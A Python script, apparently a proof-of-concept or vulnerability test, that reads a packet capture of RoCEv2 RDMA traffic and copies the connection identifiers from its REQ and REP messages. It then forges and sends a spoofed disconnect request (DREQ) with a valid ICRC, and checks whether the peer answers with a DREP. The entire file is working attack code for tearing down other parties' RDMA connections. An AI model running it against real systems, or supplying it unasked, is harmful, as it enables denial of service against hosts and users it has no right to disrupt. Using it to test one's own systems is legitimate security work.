"""Sends a DREQ of a connection that a capture shows the beginning of: forge_dreq.py CAPTURE FROM TO. Exits 0 where it is
answered by a DREP. What a stranger who knows all numbers but sits at another address could send; or the peer itself."""
import socket, struct, sys, zlib

def packets(name):
    data = open(name, 'rb').read()
    at = 0
    while at + 28 <= len(data):             # the last one may be written in half
        kind, length = struct.unpack_from('<II', data, at)
        if kind == 6:
            captured = struct.unpack_from('<I', data, at + 20)[0]
            yield data[at + 28:at + 28 + captured]
        at += length

def messages(name):
    """(kind, the MAD) of the packets for QP 1 that are messages of the connection manager."""
    for ip in packets(name):
        if len(ip) >= 304 and ip[0] == 0x45 and ip[28] == 0x64 and ip[33:36] == b'\0\0\1':
            mad = ip[48:304]
            yield struct.unpack_from('>H', mad, 16)[0], mad

req = rep = None
for kind, mad in messages(sys.argv[1]):
    req = mad if kind == 0x10 and not req else req
    rep = mad if kind == 0x13 and not rep else rep
client, server = req[24:28], rep[24:28]
qpn = rep[24 + 12:24 + 15]
dreq = bytearray(256)
dreq[0:4] = b'\1\7\2\3'
dreq[8:16] = req[8:16]
dreq[16:18] = b'\0\x15'
dreq[24:28], dreq[28:32], dreq[32:35] = client, server, qpn

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_IP, 10, 2)      # IP_MTU_DISCOVER, DO: the identification is 0
s.bind((sys.argv[2], 50123))
answers = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
answers.settimeout(3)
answered = True
try:
    answers.bind((sys.argv[2], 4791))
except OSError:
    answered = None                         # the peer's own card has the port
bth = struct.pack('>BBHII', 0x64, 0, 0xffff, 1, 77) + struct.pack('>II', 0x80010000, 1) + bytes(dreq)
ip = struct.pack('>BBHHHBBH', 0x45, 255, 20 + 8 + len(bth) + 4, 0, 0x4000, 255, 17, 0xffff) + socket.inet_aton(sys.argv[2]) + socket.inet_aton(sys.argv[3])
udp = struct.pack('>HHHH', 50123, 4791, 8 + len(bth) + 4, 0xffff)
icrc = zlib.crc32(b'\xff' * 8 + ip + udp + bth[:4] + b'\xff' + bth[5:])
s.sendto(bth + struct.pack('<I', icrc), (sys.argv[3], 4791))
if answered:
    try:
        mad = answers.recv(2048)[20:276]
        answered = mad[16:18] == b'\0\x16'
    except socket.timeout:
        answered = False
sys.exit(0 if answered is not False else 1)
